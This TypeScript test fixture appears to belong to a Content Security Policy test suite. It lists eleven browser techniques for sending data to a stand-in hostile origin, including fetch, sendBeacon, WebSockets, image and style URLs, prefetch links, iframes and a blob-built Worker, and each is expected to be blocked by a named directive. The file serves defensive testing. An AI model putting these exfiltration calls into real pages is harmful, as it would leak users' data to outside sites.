import type { HostileTry } from './hostile-try.ts';

/** Ways to send what it knows to another site. */
export const sendingTries: readonly HostileTry[] = [
  {
    name: 'sends by `fetch`',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => fetch(`${evil}/fetch`, { method: 'POST', mode: 'no-cors', body: 'told' }),
  },
  {
    name: 'sends by `XMLHttpRequest`',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run(evil) {
      const request = new XMLHttpRequest();
      request.open('POST', `${evil}/xhr`);
      request.send('told');
    },
  },
  {
    name: 'sends by a beacon',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void navigator.sendBeacon(`${evil}/beacon`, 'told'),
  },
  {
    name: 'sends by a WebSocket',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket`),
  },
  {
    name: 'sends by an event source',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void new EventSource(`${evil}/events`),
  },
  {
    name: 'sends by the address of a picture',
    outcome: 'blocked',
    why: 'policy: `img-src`',
    run: (evil) => void (new Image().src = `${evil}/picture`),
  },
  {
    name: 'sends by a style',
    outcome: 'blocked',
    why: 'policy: `img-src`',
    run(evil) {
      document.body.style.setProperty('background-image', `url(${evil}/style)`);
      return new Promise((resolve) => setTimeout(resolve, 100));
    },
    undo: () => document.body.style.removeProperty('background-image'),
  },
  {
    name: 'sends by a style sheet',
    outcome: 'blocked',
    why: 'policy: `style-src`',
    run(evil) {
      const sheet = document.createElement('link');
      Object.assign(sheet, { rel: 'stylesheet', href: `${evil}/sheet.css` });
      document.head.append(sheet);
    },
  },
  {
    name: 'fetches another site in advance',
    outcome: 'blocked',
    why: 'policy: `default-src`',
    run(evil) {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'prefetch', href: `${evil}/prefetch` });
      document.head.append(link);
    },
  },
  {
    name: 'frames another site',
    outcome: 'blocked',
    why: 'policy: `frame-src`',
    run(evil) {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    },
    undo: () => document.querySelector('body > iframe')?.remove(),
  },
  {
    name: 'sends from a worker of its own text',
    outcome: 'blocked',
    why: 'policy: no worker without Google’s maps, and with them the same `connect-src`',
    run(evil) {
      const text = `fetch("${evil}/worker", { mode: "no-cors" })`;
      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
      return new Promise((resolve) => setTimeout(() => resolve(worker.terminate()), 300));
    },
  },
];
